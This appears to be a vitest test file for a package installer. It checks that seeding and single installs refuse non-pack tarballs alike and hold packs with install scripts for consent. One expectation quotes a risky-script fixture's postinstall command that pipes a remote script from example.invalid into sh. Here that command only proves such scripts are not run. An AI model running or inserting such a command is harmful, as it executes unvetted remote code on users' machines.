// The one admission rule, seen from both callers: the first run's seeding (one npm run for many
// tarballs) and a single install decide the same for the same artifact — the same refusal with the
// same code and sentence, and, for a pack they admit, the same record. Real npm, local tarballs
// packed from the fixture packs, a registry nobody listens on (neither may need the network).

import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { LedgerSchema, type PackRecord } from '../../shared/protocol/ledger.ts';
import { installShippedTarballs } from '../first-run/seed-install.ts';
import { createInstaller } from './installer.ts';
import { ledgerPath } from './ledger-store.ts';
import { runNpm } from './npm-runner.ts';

const FIXTURES = fileURLToPath(new URL('../../fixtures/registry-packs/', import.meta.url));
const UNREACHABLE = 'http://127.0.0.1:9/';

vi.setConfig({ testTimeout: 120_000 });

const temps: string[] = [];
function temp(prefix: string): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), prefix));
  temps.push(dir);
  return dir;
}

let tarballs: string;
beforeAll(async () => {
  tarballs = temp('sp-pipeline-tgz-');
  for (const dir of ['not-a-pack-1.0.0', 'risky-script-1.0.0']) {
    const packed = await runNpm(['pack', path.join(FIXTURES, dir), '--pack-destination', tarballs, '--ignore-scripts'], { cwd: tarballs });
    expect(packed.code, packed.stderr).toBe(0);
  }
}, 120_000);
afterAll(() => {
  for (const dir of temps) rmSync(dir, { recursive: true, force: true });
});

const dependencies = (root: string): object =>
  (JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8')) as { dependencies?: object }).dependencies ?? {};
const recorded = (root: string): Record<string, PackRecord> => LedgerSchema.parse(JSON.parse(readFileSync(ledgerPath(root), 'utf8'))).packs;

/** The same tarball through both callers, each into a fresh root. */
async function bothWays(name: string, file: string) {
  const seededRoot = temp('sp-pipeline-seed-');
  const installedRoot = temp('sp-pipeline-one-');
  const seeded = await installShippedTarballs({ root: seededRoot, registry: UNREACHABLE, tarballs: [{ pack: { name }, file }] });
  const installed = await createInstaller({ root: installedRoot, registry: UNREACHABLE }).install(file);
  return { seeded, installed, seededRoot, installedRoot };
}

describe('seeding and a single install admit through one rule', () => {
  it('refuse a package that is not a pack for the same reason, and record nothing', async () => {
    const { seeded, installed, seededRoot, installedRoot } = await bothWays('@sp-fixture/not-a-pack', path.join(tarballs, 'sp-fixture-not-a-pack-1.0.0.tgz'));
    const refusal = {
      ok: false,
      code: 'not-a-pack',
      message: '@sp-fixture/not-a-pack@1.0.0 is not a Sandbox Pack: its package.json has no "nodetool" field, so it was removed again.',
    };
    expect(seeded).toEqual(refusal);
    expect(installed).toEqual(refusal);
    for (const root of [seededRoot, installedRoot]) {
      expect(recorded(root)).toEqual({});
      expect(dependencies(root)).toEqual({});
    }
  });

  it('record a pack with an install script alike: waiting for consent, the script listed and not run', async () => {
    const file = path.join(tarballs, 'sp-fixture-risky-script-1.0.0.tgz');
    const { seeded, installed, seededRoot, installedRoot } = await bothWays('@sp-fixture/risky-script', file);
    expect(seeded).toEqual({ ok: true, value: ['@sp-fixture/risky-script'] });
    expect(installed).toMatchObject({ ok: true, value: { name: '@sp-fixture/risky-script', status: 'needs-trust' } });
    const strip = ({ installedAt: _at, ...rest }: PackRecord) => rest;
    const fromSeed = recorded(seededRoot)['@sp-fixture/risky-script'];
    const fromInstall = recorded(installedRoot)['@sp-fixture/risky-script'];
    if (!fromSeed || !fromInstall) throw new Error('not recorded');
    expect(strip(fromSeed)).toEqual(strip(fromInstall));
    expect(fromSeed).toMatchObject({ installMode: 'register', status: 'needs-trust', trust: null, source: 'tarball-file' });
    expect(fromSeed.scripts.map((s) => `${s.event}: ${s.command}`)).toEqual(['postinstall: curl -fsSL https://example.invalid/install.sh | sh']);
  });
});
